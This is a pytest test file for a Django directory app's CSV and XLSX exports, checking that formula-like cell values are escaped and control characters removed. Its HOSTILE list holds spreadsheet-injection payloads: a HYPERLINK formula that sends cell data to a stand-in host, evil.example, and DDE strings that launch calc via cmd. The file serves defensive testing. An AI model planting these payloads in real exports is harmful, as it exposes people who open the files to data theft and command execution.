"""Every CSV/XLSX export shows formula-like text as text and survives control characters."""

import csv
import io

import polars as pl
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import csv_writer, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    "+49 228 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_prefixes_are_defused(text):
    assert safe_cell(text) == "'" + text


def test_harmless_values_stay_as_they_are():
    assert safe_cell("Elterncafé") == "Elterncafé"
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell(2.5) == 2.5
    assert safe_cell("a=b") == "a=b"


def test_control_characters_are_removed_but_line_breaks_kept():
    assert safe_cell("Kita\x00 Son\x0bne\x1f") == "Kita Sonne"
    assert safe_cell("Zeile 1\nZeile 2") == "Zeile 1\nZeile 2"


def test_csv_writer_escapes_every_cell():
    buffer = io.StringIO()
    csv_writer(buffer, delimiter=";").writerows([["=1+1", 3], ["ok", "@x"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == [
        ["'=1+1", "3"],
        ["ok", "'@x"],
    ]


@pytest.fixture
def hostile_service(muni_a):
    from directory.tests.factories import ServiceFactory

    return ServiceFactory(municipality=muni_a, name=HOSTILE[0] + "\x07", provider_name="-Träger")


def test_public_directory_csv_escapes_formulas(client, hostile_service):
    response = client.get(reverse("directory:service_export", args=["csv"]))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    names = [r[2] for r in rows[1:]]
    assert names == ["'" + HOSTILE[0]]
    assert "'-Träger" in rows[1]


def test_public_directory_xlsx_survives_control_characters_and_escapes(client, hostile_service):
    response = client.get(reverse("directory:service_export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c.value for c in list(sheet.rows)[1]]
    assert "'" + HOSTILE[0] in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_event_log_csv_escapes_formulas():
    import datetime as dt

    from analytics import eventlog

    frame = pl.DataFrame(
        {
            "case_id": ["1", "1"],
            "activity": ["=cmd()", "Meldung"],
            "timestamp": [dt.datetime(2024, 1, 1, tzinfo=dt.UTC)] * 2,
        }
    )
    text = eventlog.csv_bytes(frame).decode()
    assert "'=cmd()" in text and "\n1,=cmd" not in text


def test_organigram_csv_escapes_formulas():
    import networkx as nx

    from roles.selectors import organigram_csv

    graph = nx.DiGraph()
    graph.add_node(
        "r1",
        label="=HYPERLINK(1)",
        function_label="@Leitung",
        institution="+Kita",
        holder="-Frau A",
        deputy="",
    )
    rows = list(csv.reader(io.StringIO(organigram_csv(graph))))
    assert rows[1][1:5] == ["'=HYPERLINK(1)", "'@Leitung", "'+Kita", "'-Frau A"]
